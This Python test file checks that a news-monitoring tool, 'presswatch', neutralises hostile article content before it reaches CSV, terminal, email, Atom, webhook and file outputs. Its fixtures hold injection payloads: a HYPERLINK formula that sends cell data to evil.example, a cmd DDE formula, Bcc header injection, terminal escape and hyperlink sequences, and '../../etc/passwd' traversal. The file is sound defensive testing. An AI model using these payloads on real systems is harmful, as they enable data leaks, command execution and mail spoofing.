"""Every exit is safe by itself, whatever the database holds: stored titles and texts full of
terminal escape sequences, control characters, bidirectional overrides, line breaks with mail
headers after them, RFC 2047 look-alikes and spreadsheet formulas reach the CSV export, the
terminal, email, Atom and webhooks neutralised for each medium. The database is a real SQLite
file written as an older version may have written it; the commands are the real ones, against
a real SMTP server (aiosmtpd) and a real HTTP server on 127.0.0.1."""

from __future__ import annotations

import csv
import email.policy
import json
import logging
import re
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.parser import BytesParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import feedparser
import pytest
from aiosmtpd.controller import Controller
from lxml import etree
from sqlalchemy import update
from sqlalchemy.orm import Session

from crawler.cli.common import TerminalFormatter
from crawler.config import load_config
from crawler.digests.atom import render_atom
from crawler.digests.delivery import post_webhook, write_digest_files
from crawler.digests.digest import Entry, Group, build_digest
from crawler.digests.outbox import Outbox
from crawler.escaping import (
    csv_cell,
    file_name_part,
    header_text,
    json_safe,
    terminal_text,
    xml_text,
)
from crawler.watch.flagging import Flagger, search_words
from crawler.watch.matcher import WatchlistQuery
from storage import articles, search
from storage.engine import make_engine
from storage.migrate import ensure_schema
from storage.models import Article, CrawlRun, Delivery
from tests.conftest import _presswatch_command, presswatch
from tests.databases import free_port

# -- what a hostile site leaves in the database ---------------------------------------------

# A headline as a CMS might hold it: colour codes, a bell, NUL, an 8-bit CSI that clears the
# screen, a right-to-left override, an OSC that retitles the terminal, line breaks with a
# forged digest entry and a mail header after them, and an RFC 2047 encoded word that decodes
# to another line break and header.
CONTROL_TITLE = (
    "\x1b[31mKarabakh\x1b[0m: shelling\x07 resumes\x00\x9b2J \u202eÜberraschung\u202c"
    "\x1b]0;pwned\x07\r\n* forged entry\r\nBcc: x@evil.example "
    "=?utf-8?q?=0D=0ABcc:_y@evil.example?="
)
# What a terminal shows of it, and what a mail header carries.
CONTROL_TITLE_SHOWN = (
    "Karabakh: shelling resumes Überraschung * forged entry Bcc: x@evil.example "
    "=?utf-8?q?=0D=0ABcc:_y@evil.example?="
)
CONTROL_TITLE_HEADER = (
    "Karabakh: shelling resumes Überraschung * forged entry Bcc: x@evil.example "
    "= ?utf-8?q?=0D=0ABcc:_y@evil.example?="
)
CONTROL_TEXT = (
    "Shelling in Karabakh resumed overnight\x07, \u2066officials\u2069 said "
    "\x1b[2J\x1b]8;;http://evil.example/\x1b\\in a statement\x1b]8;;\x1b\\.\r\n"
) * 6
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Karabakh: click for details")'
FORMULA_TEXT = "-5 killed as Karabakh shelling resumes; =1+2 said the ministry. " * 6
XML_TITLE = "Karabakh talks \ufffe\uffff\x0b\x01end"
XML_TEXT = "Talks on Karabakh \x0c ended \ufffe without agreement. " * 6


@dataclass(frozen=True)
class Stored:
    url: str
    title: str
    text: str
    authors: tuple[str, ...] = ()
    tags: tuple[str, ...] = ()
    description: str | None = None
    site_name: str | None = None


# Newest first: the control-laden article leads an alert.
ARTICLES = (
    Stored("https://a.example/control", CONTROL_TITLE, CONTROL_TEXT, ("\x1b[1mBold\x1b[0m",)),
    Stored(
        "https://a.example/formula",
        FORMULA_TITLE,
        FORMULA_TEXT,
        authors=("@attacker", "+62 Reporter"),
        tags=("-1 tag", "\tTabbed"),
        description="\rCarriage return",
        site_name="=cmd|' /C calc'!A0",
    ),
    Stored("https://a.example/xml", XML_TITLE, XML_TEXT),
)

# Characters no human-readable output may carry: C0 controls but tab and newline, DEL, C1
# controls, bidirectional embeddings, overrides and isolates.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_clean(output: str) -> None:
    found = FORBIDDEN.search(output)
    assert found is None, (
        f"{found.group()!r} at {found.start()}: "
        f"{output[max(0, found.start() - 60) : found.start() + 60]!r}"
    )


CONFIG = """\
[storage]
url = "sqlite:///hostile.db"

[[sources]]
name = "s"
feeds = ["https://a.example/rss"]

[[watchlists]]
name = "karabakh"
query = "Karabakh"
{priority}

[[watchers]]
name = "analyst"
watchlists = ["karabakh"]
timezone = "Asia/Jakarta"
{watcher}
{delivery}
"""


def hostile_database(
    tmp_path: Path, watcher: str = "", delivery: str = "", priority: str = ""
) -> Path:
    """A config and its SQLite database holding ARTICLES, flagged by the 'karabakh'
    watchlist; returns the config's path."""
    path = tmp_path / "presswatch.toml"
    path.write_text(
        CONFIG.format(watcher=watcher, delivery=delivery, priority=priority), encoding="utf-8"
    )
    config = load_config(path)
    engine = make_engine(config.database_url)
    ensure_schema(engine)
    now = datetime.now(UTC)
    flagger = Flagger([WatchlistQuery("karabakh", "Karabakh")])
    with Session(engine) as session, session.begin():
        for age, a in enumerate(ARTICLES, start=1):
            fields: dict[str, Any] = {
                "title": a.title,
                "text": a.text,
                "authors": list(a.authors),
                "tags": list(a.tags),
                "description": a.description,
                "site_name": a.site_name,
            }
            stored = articles.store_article(
                session,
                articles.ArticleRecord(
                    source="s",
                    url=a.url,
                    text=a.text,
                    fetched_at=now,
                    published_at=now - timedelta(hours=age),
                ),
            )
            # As an older version stored it: exactly these characters, whatever the input
            # edge cleans today.
            session.execute(update(Article).where(Article.id == stored.article_id).values(**fields))
            article = session.get_one(Article, stored.article_id)
            assert article.title == a.title and article.text == a.text
            assert flagger.flag(session, article, now) == {"karabakh": "new"}
            # The search index, as the crawl's pipeline writes it.
            search.set_search_words(session, article.id, search_words(a.title, a.text))
    engine.dispose()
    return path


@dataclass(frozen=True)
class Output:
    stdout: str
    stderr: str


def run(config: Path, *args: str) -> Output:
    """The command's output as it reached the terminal: bytes decoded as strict UTF-8, with
    no newline translation (which would hide a carriage return)."""
    result = subprocess.run(
        [*_presswatch_command(), "--config", str(config), *args],
        cwd=config.parent,
        capture_output=True,
        timeout=180,
    )
    output = Output(result.stdout.decode("utf-8"), result.stderr.decode("utf-8"))
    assert result.returncode == 0, output
    return output


# -- the helpers ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1 555", "'+1 555"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Karabakh = war", "Karabakh = war"),
        ("", ""),
        ("bad \ud800 surrogate", "bad \ufffd surrogate"),
    ],
)
def test_csv_cell_neutralises_formula_starts(cell: str, expected: str) -> None:
    assert csv_cell(cell) == expected


@pytest.mark.parametrize(
    ("text", "one_line", "multiline"),
    [
        ("\x1b[1;31mred\x1b[0m", "red", "red"),
        ("\x9b2Jcleared", "cleared", "cleared"),
        ("\x1b]0;title\x07x", "x", "x"),
        ("\x1b]8;;http://e/\x1b\\link\x1b]8;;\x1b\\", "link", "link"),
        ("\x1bcreset", "reset", "reset"),
        ("\x1b] left open", " left open", " left open"),
        ("a\r\nb\rc\nd\x85e\u2028f", "a b c d e f", "a\nb\nc\nd\ne\nf"),
        ("tab\there", "tab here", "tab\there"),
        ("nul\x00 bel\x07 del\x7f bs\x08", "nul bel del bs", "nul bel del bs"),
        ("\u202eevil\u202c \u2066iso\u2069", "evil iso", "evil iso"),
        ("lone \udc80", "lone \ufffd", "lone \ufffd"),
        ("Ermənistan 🇦🇲", "Ermənistan 🇦🇲", "Ermənistan 🇦🇲"),
    ],
)
def test_terminal_text(text: str, one_line: str, multiline: str) -> None:
    assert terminal_text(text) == one_line
    assert terminal_text(text, multiline=True) == multiline


def test_header_text_is_one_line_with_no_encoded_word() -> None:
    assert header_text(CONTROL_TITLE) == CONTROL_TITLE_HEADER
    assert header_text("  a \t b\u2028c  ") == "a b c"
    assert header_text("x" * 20, max_length=10) == "x" * 9 + "…"


def test_xml_text_keeps_only_what_xml_allows() -> None:
    assert xml_text("a\x00\x01\x0b\x0c\x1b\x7f\x85\x9f\ufffe\uffff\ud800b\t\n\r😀") == (
        "a\ufffdb\t\n\r😀"
    )
    assert (
        xml_text("\u202eevil\u202c \u2066iso\u2069 \u200fmark\u200e") == "evil iso \u200fmark\u200e"
    )
    assert xml_text("\x1b[1;31mred\x1b[0m \x1b]0;title\x07") == "red "


def test_json_safe_makes_any_string_encodable() -> None:
    value = {"t\ud800": ["x\udfff", ("y",), 1, None, True, {"k": "\x1b"}]}
    assert json_safe(value) == {"t\ufffd": ["x\ufffd", ["y"], 1, None, True, {"k": "\x1b"}]}
    json.dumps(json_safe(value), ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("analyst-2026-12-04-0700-digest-3", "analyst-2026-12-04-0700-digest-3"),
        ("../../etc/passwd", "etc-passwd"),
        ("..", "digest"),
        ("a/../b", "a-..-b"),
        ("C:\\windows", "C-windows"),
        ("", "digest"),
        (".hidden", "hidden"),
    ],
)
def test_file_name_part_stays_one_component(name: str, expected: str) -> None:
    assert file_name_part(name) == expected


def test_log_lines_carry_no_escape_sequence() -> None:
    record = logging.LogRecord(
        "presswatch", logging.WARNING, __file__, 1, "page %s failed", (CONTROL_TITLE,), None
    )
    line = TerminalFormatter("%(levelname)s %(message)s").format(record)
    assert line == (
        "WARNING page Karabakh: shelling resumes Überraschung\n* forged entry\n"
        "Bcc: x@evil.example =?utf-8?q?=0D=0ABcc:_y@evil.example?= failed"
    )
    assert_clean(line)


# -- CSV ------------------------------------------------------------------------------------

NUMBER_COLUMNS = {"id", "revision", "story_id"}


def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    config = hostile_database(tmp_path)
    target = tmp_path / "articles.csv"
    run(config, "export", "--format", "csv", "-o", str(target))
    raw = target.read_text(encoding="utf-8")
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(ARTICLES)
    text_columns = set(rows[0]) - NUMBER_COLUMNS
    assert {"title", "text", "authors", "url", "tags", "description", "site_name"} <= text_columns
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)
        for column in NUMBER_COLUMNS:
            assert row[column] == "" or int(row[column]) > 0
    formula = next(r for r in rows if r["url"] == "https://a.example/formula")
    assert formula["title"] == "'" + FORMULA_TITLE
    assert formula["text"] == "'" + FORMULA_TEXT
    assert formula["authors"] == "'@attacker; +62 Reporter"
    assert formula["tags"] == "'-1 tag; \tTabbed"
    assert formula["description"] == "'\rCarriage return"
    assert formula["site_name"] == "'=cmd|' /C calc'!A0"
    # Numbers are written bare (a spreadsheet reads them as numbers), text quoted.
    assert len(re.findall(r'(?m)^\d+,"https://a\.example/', raw)) == len(ARTICLES)
    assert raw.startswith("id,url,canonical_url,urls,")

    # JSON lines are the raw form, for programs: every character as stored.
    jsonl = run(config, "export").stdout
    records = {r["url"]: r for r in map(json.loads, jsonl.splitlines())}
    assert records["https://a.example/formula"]["title"] == FORMULA_TITLE
    assert records["https://a.example/control"]["title"] == CONTROL_TITLE
    assert records["https://a.example/control"]["text"] == CONTROL_TEXT


# -- terminal -------------------------------------------------------------------------------


def test_search_prints_no_control_characters(tmp_path: Path) -> None:
    config = hostile_database(tmp_path)
    result = run(config, "search", "Karabakh")
    assert_clean(result.stdout)
    assert f"#1  {CONTROL_TITLE_SHOWN}\n" in result.stdout
    assert "[Karabakh]" in result.stdout and "officials said in a statement" in result.stdout
    # Titles and snippets stay on their line: two lines per article, and its snippets.
    assert not any(line.startswith(("* forged", "Bcc")) for line in result.stdout.splitlines())
    # --json is exact (and valid JSON).
    found = json.loads(run(config, "search", "Karabakh", "--json").stdout)
    assert {a["title"] for a in found} == {a.title for a in ARTICLES}


def test_digest_text_and_markdown_print_no_control_characters(tmp_path: Path) -> None:
    config = hostile_database(tmp_path)
    text = run(config, "digest", "analyst", "--since", "7d").stdout
    assert_clean(text)
    assert f"* {CONTROL_TITLE_SHOWN}\n" in text
    # One entry line per story: the title's line breaks forge none.
    assert text.count("\n* ") == len(ARTICLES)
    assert "[Karabakh]" in text
    markdown = run(config, "digest", "analyst", "--since", "7d", "--format", "md").stdout
    assert_clean(markdown)
    assert markdown.count("\n- [") == len(ARTICLES)
    page = run(config, "digest", "analyst", "--since", "7d", "--format", "html").stdout
    assert_clean(page)
    assert "Karabakh: shelling resumes Überraschung" in page
    data = json.loads(run(config, "digest", "analyst", "--since", "7d", "--format", "json").stdout)
    titles = {e["title"] for g in data["watchlists"] for e in g["entries"]}
    assert titles == {a.title for a in ARTICLES}


def test_status_prints_no_control_characters(tmp_path: Path) -> None:
    config = hostile_database(tmp_path, watcher='directory = "digests/"')
    engine = make_engine(load_config(config).database_url)
    now = datetime.now(UTC)
    hostile_kind = "\x1b[31mhttp_500\x1b]0;pwned\x07\r\nFORGED"
    with Session(engine) as session, session.begin():
        for minutes in range(4):
            started = now - timedelta(minutes=10 * minutes + 5)
            session.add(
                CrawlRun(
                    source="s",
                    started_at=started,
                    finished_at=started + timedelta(minutes=1),
                    status="failed",
                    errors={hostile_kind: 2},
                )
            )
        session.add(
            Delivery(
                watcher="analyst",
                channel="directory",
                kind="digest",
                status="pending",
                message_id="<1@example.org>",
                period_start=now - timedelta(days=1),
                period_end=now,
                created_at=now,
                attempts=1,
                last_error="disk \x1b[2J full\x07\r\nFORGED line \u202eevil",
            )
        )
    engine.dispose()
    result = run(config, "status")
    assert_clean(result.stdout)
    assert "FAILING: 4 failed crawls in a row (http_500 FORGED)" in result.stdout
    assert "PENDING after 1 attempts: disk  full FORGED line evil" in result.stdout
    assert not any(line.startswith("FORGED") for line in result.stdout.splitlines())
    status = json.loads(run(config, "status", "--json").stdout)
    assert status["watchers"][0]["deliveries"][0]["last_error"].startswith("disk \x1b[2J")


def test_match_on_a_stored_article_prints_no_control_characters(tmp_path: Path) -> None:
    config = hostile_database(tmp_path)
    result = run(config, "match", "Karabakh", "--article", "1")
    assert_clean(result.stdout)
    assert "[Karabakh]" in result.stdout


# -- email ----------------------------------------------------------------------------------


class RawMailSink:
    """aiosmtpd handler keeping each message's bytes as they arrived."""

    def __init__(self) -> None:
        self.raw: list[bytes] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        self.raw.append(bytes(envelope.content))
        return "250 Message accepted"


@pytest.fixture
def smtp() -> Iterator[tuple[int, RawMailSink]]:
    port = free_port()
    sink = RawMailSink()
    controller = Controller(sink, hostname="127.0.0.1", port=port)
    controller.start()
    yield port, sink
    controller.stop()


def smtp_settings(port: int) -> str:
    return (
        f'[delivery.smtp]\nhost = "127.0.0.1"\nport = {port}\nstarttls = false\n'
        'from = "presswatch <alerts@example.org>"\ntimeout = "5s"\n'
    )


HEADERS = {
    "Subject",
    "From",
    "To",
    "Date",
    "Message-ID",
    "Auto-Submitted",
    "X-Presswatch-Watcher",
    "MIME-Version",
    "Content-Type",
}


def parse(raw: bytes) -> EmailMessage:
    head = raw.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
    head.decode("ascii")  # RFC 2047: no raw 8-bit byte in any header
    unfolded = re.sub(rb"\n[ \t]", b" ", head).split(b"\n")
    assert not any(line.lower().startswith(b"bcc") for line in unfolded)
    message = BytesParser(policy=email.policy.default).parsebytes(raw)
    assert isinstance(message, EmailMessage)
    assert set(message.keys()) == HEADERS and len(message.keys()) == len(HEADERS)
    subject = str(message["Subject"])
    assert "\n" not in subject and "\r" not in subject
    return message


def test_email_digest_has_only_its_headers_and_clean_bodies(
    tmp_path: Path, smtp: tuple[int, RawMailSink]
) -> None:
    port, sink = smtp
    config = hostile_database(tmp_path, 'email = "analyst@example.org"', smtp_settings(port))
    result = run(config, "digest", "analyst", "--send")
    assert "sent, 3 stories" in result.stdout
    (raw,) = sink.raw
    message = parse(raw)
    assert str(message["Subject"]).startswith("presswatch digest ")
    plain = message.get_body(("plain",))
    html = message.get_body(("html",))
    assert plain is not None and html is not None
    # (Lines end in CRLF in transit.)
    plain_text = str(plain.get_content()).replace("\r\n", "\n")
    html_text = str(html.get_content()).replace("\r\n", "\n")
    assert_clean(plain_text)
    assert f"* {CONTROL_TITLE_SHOWN}\n" in plain_text
    assert_clean(html_text)
    # Every stored text escaped in HTML.
    assert "&quot;http://evil.example/?leak=&quot;&amp;A1" in html_text


def test_email_alert_subject_is_the_cleaned_headline_on_one_line(
    tmp_path: Path, smtp: tuple[int, RawMailSink]
) -> None:
    port, sink = smtp
    config_path = hostile_database(
        tmp_path,
        'email = "analyst@example.org"',
        smtp_settings(port),
        priority='priority = "urgent"',
    )
    config = load_config(config_path)
    engine = make_engine(config.database_url)
    try:
        outcomes = Outbox(engine, config).run_alerts(datetime.now(UTC) - timedelta(days=1))
    finally:
        engine.dispose()
    assert [o.status for o in outcomes] == ["sent"]
    (raw,) = sink.raw
    message = parse(raw)
    expected = f"URGENT [karabakh] {CONTROL_TITLE_HEADER} (+2 more)"
    assert str(message["Subject"]) == expected
    # Non-ASCII went out RFC 2047-encoded.
    head = raw.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
    subject_line = re.search(rb"^Subject:.*(?:\n[ \t].*)*", head, re.MULTILINE)
    assert subject_line is not None and b"=?utf-8?" in subject_line.group()
    assert message["To"] == "analyst@example.org"


# -- Atom -----------------------------------------------------------------------------------


def assert_valid_atom(data: bytes) -> Any:
    etree.fromstring(data)  # well-formed XML 1.0, or it raises
    feed = feedparser.parse(data)
    assert not feed.bozo, feed.bozo_exception
    return feed


def test_feed_command_writes_well_formed_atom(tmp_path: Path) -> None:
    config = hostile_database(tmp_path)
    out = tmp_path / "karabakh.xml"
    run(config, "feed", "karabakh", "-o", str(out))
    feed = assert_valid_atom(out.read_bytes())
    titles = {e.title for e in feed.entries}
    assert len(titles) == len(ARTICLES)
    assert "Karabakh talks end" in titles
    for entry in feed.entries:
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", entry.title)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", entry.summary)


def test_atom_of_any_text_is_well_formed() -> None:
    # Texts no database here can hold (lone surrogates) still make a valid feed.
    nasty = "a\x00b\x01\x1b[31mc\ud800d\udfffe\ufffe\uffff\x85\x9b\x0b&<>'\"\U0001f600"
    entry = Entry(
        article_id=1,
        story_id=1,
        title=nasty,
        url="https://a.example/?q=" + nasty,
        source=nasty,
        published_at=datetime(2020, 11, 2, tzinfo=UTC),
        terms=((nasty, 1),),
        snippet={"text": nasty, "highlights": [[0, 3]]},
        updated=True,
        also=(("other" + nasty, "https://b.example/" + nasty),),
        changed_at=datetime(2020, 11, 2, tzinfo=UTC),
    )
    data = render_atom(
        feed_id="urn:presswatch:test",
        title="feed " + nasty,
        groups=[Group("karabakh", nasty, (entry,))],
        now=datetime(2020, 11, 3, tzinfo=UTC),
        limit=10,
        self_href="https://a.example/feed?" + nasty,
    )
    feed = assert_valid_atom(data)
    (parsed,) = feed.entries
    assert parsed.title == "[updated] abc\ufffdd\ufffde&<>'\"😀"


# -- webhook and directory ------------------------------------------------------------------


class Hook:
    """An HTTP endpoint keeping the bodies POSTed to it."""

    def __init__(self) -> None:
        self.bodies: list[bytes] = []
        hook = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                hook.bodies.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hook() -> Iterator[Hook]:
    served = Hook()
    yield served
    served.stop()


def test_webhook_body_is_valid_json_of_the_exact_texts(tmp_path: Path, hook: Hook) -> None:
    config = hostile_database(tmp_path, f'webhook = "{hook.url}"')
    run(config, "digest", "analyst", "--send")
    (body,) = hook.bodies
    payload = json.loads(body.decode("utf-8"))
    assert {item["title"] for item in payload["items"]} == {a.title for a in ARTICLES}
    assert_clean(payload["text"])  # the chat text: one line per story
    assert CONTROL_TITLE_SHOWN in payload["text"]


def test_webhook_body_of_unencodable_text_is_still_utf8_json(hook: Hook) -> None:
    post_webhook(hook.url, {"text": "lone \ud800 surrogate", "\udfff": [1]}, key="k", timeout=5)
    (body,) = hook.bodies
    assert json.loads(body.decode("utf-8")) == {"text": "lone \ufffd surrogate", "\ufffd": [1]}


def test_digest_files_are_named_from_the_watcher_and_stay_in_their_directory(
    tmp_path: Path,
) -> None:
    config_path = hostile_database(tmp_path, 'directory = "digests/"')
    run(config_path, "digest", "analyst", "--send")
    directory = tmp_path / "digests"
    names = sorted(p.name for p in directory.iterdir())
    assert len(names) == 2 and all(
        re.fullmatch(r"analyst-[\d-]+-digest-1\.(html|md)", n) for n in names
    )
    for path in directory.iterdir():
        assert_clean(path.read_text(encoding="utf-8"))
    # Whatever a name holds, the files land in the directory.
    config = load_config(config_path)
    engine = make_engine(config.database_url)
    with Session(engine) as session:
        digest = build_digest(
            session, config, config.watcher("analyst"), datetime.now(UTC) - timedelta(days=1)
        )
    engine.dispose()
    written = write_digest_files(directory, "../../outside", digest)
    assert [p.parent for p in written] == [directory, directory]
    assert {p.name for p in written} == {"outside.html", "outside.md"}
    assert not (tmp_path.parent / "outside.html").exists()
    # A watcher name that would leave the directory is refused with the config.
    bad = tmp_path / "bad.toml"
    bad.write_text(
        config_path.read_text(encoding="utf-8").replace('name = "analyst"', 'name = "../x"'),
        encoding="utf-8",
    )
    refused = presswatch("--config", str(bad), "check", cwd=tmp_path)
    assert refused.returncode == 2 and "is not a watcher name" in refused.stderr
